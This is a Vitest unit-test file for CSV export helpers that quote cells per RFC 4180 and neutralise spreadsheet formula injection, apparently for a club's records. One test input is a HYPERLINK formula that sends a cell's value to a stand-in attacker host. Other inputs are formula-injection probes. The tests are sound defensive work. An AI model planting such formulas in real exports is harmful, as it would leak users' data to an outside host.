import { describe, expect, it } from 'vitest';
import { csvCell, csvText } from './csv.ts';

describe('csvCell', () => {
  it('keeps plain text plain, and quotes a separator, a quote or a line break (RFC 4180)', () => {
    expect(csvCell('OG Kush')).toBe('OG Kush');
    expect(csvCell('Martín Rodríguez')).toBe('Martín Rodríguez');
    expect(csvCell('Pérez; Gómez')).toBe('"Pérez; Gómez"');
    expect(csvCell('Pérez, Gómez')).toBe('"Pérez, Gómez"');
    expect(csvCell('Ana "Anita"')).toBe('"Ana ""Anita"""');
    expect(csvCell('dos\r\nlíneas')).toBe('"dos\r\nlíneas"');
  });

  it('neutralises a text that starts as a formula (OWASP): a single quote first, the whole quoted', () => {
    expect(csvCell('=HYPERLINK("http://evil.example/?d="&C3,"Ver")')).toBe(
      '"\'=HYPERLINK(""http://evil.example/?d=""&C3,""Ver"")"',
    );
    expect(csvCell('+cmd')).toBe(`"'+cmd"`);
    expect(csvCell('-2+3')).toBe(`"'-2+3"`);
    expect(csvCell('@SUM(A1)')).toBe(`"'@SUM(A1)"`);
    expect(csvCell('\tx')).toBe(`"'\tx"`);
    expect(csvCell('\rx')).toBe(`"'\rx"`);
    // Behind spaces or quotes a reader drops, and the full-width forms.
    expect(csvCell('  =1+1')).toBe(`"'  =1+1"`);
    expect(csvCell('"=1+1')).toBe(`"'""=1+1"`);
    expect(csvCell('\uff1d1+1')).toBe(`"'\uff1d1+1"`);
  });

  it('neutralises a formula after a separator, where a sheet split on another one would start a cell', () => {
    expect(csvCell('5 ml/L,=1+1')).toBe(`"5 ml/L,'=1+1"`);
    expect(csvCell('Pulverizador; @SUM(A1)')).toBe(`"Pulverizador; '@SUM(A1)"`);
    expect(csvCell('a\n-b')).toBe(`"a\n'-b"`);
    // A hyphen inside a word or after a space is no cell start.
    expect(csvCell('Ana-María - testigo')).toBe('Ana-María - testigo');
  });

  it("writes the club's numbers as they are, negative ones too, so a sheet can add them", () => {
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell(40)).toBe('40');
    // The same characters typed as text are someone's text: neutralised.
    expect(csvCell('-5')).toBe(`"'-5"`);
  });
});

describe('csvText', () => {
  it("joins cells with ';' and ends every line, the blank ones too, with CRLF", () => {
    expect(csvText([['mes', 'gramos'], [], ['2026-10', -1]])).toBe('mes;gramos\r\n\r\n2026-10;-1\r\n');
  });
});
